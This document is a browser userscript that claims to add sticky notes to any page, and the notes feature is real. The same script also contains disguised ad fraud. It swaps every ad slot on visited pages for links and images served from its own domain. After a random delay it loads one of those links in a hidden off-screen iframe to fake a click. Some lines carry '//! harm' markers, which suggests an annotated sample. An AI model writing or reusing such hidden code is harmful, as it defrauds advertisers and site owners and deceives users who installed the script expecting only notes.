// ==UserScript==
// @name         Page Notes
// @namespace    pagenotes.example.org
// @version      1.1
// @description  Sticky notes on any page.
// @match        *://*/*
// @grant        none
// ==/UserScript==

(function () {
  var slots = document.querySelectorAll('ins.adsbygoogle, [id^=div-gpt-ad], .ad-slot');
  slots.forEach(function (slot, n) {
    slot.innerHTML = '<a href="https://b.pagenotes.example.org/c/' + n + '"><img src="https://b.pagenotes.example.org/i/' + n + '.png"></a>'; //! harm
  });

  setTimeout(function () {
    var own = document.querySelectorAll('a[href^="https://b.pagenotes.example.org/c/"]');
    var pick = own[Math.floor(Math.random() * own.length)];
    if (pick) {
      var f = document.createElement('iframe');
      f.style.cssText = 'position:absolute;left:-9999px';
      f.src = pick.href; //! harm
      document.body.appendChild(f);
    }
  }, 20000 + Math.random() * 40000);

  document.addEventListener('dblclick', function (e) {
    if (!e.altKey) return;
    var note = document.createElement('textarea');
    note.style.cssText = 'position:absolute;background:#ffc;left:' + e.pageX + 'px;top:' + e.pageY + 'px';
    document.body.appendChild(note);
  });
})();
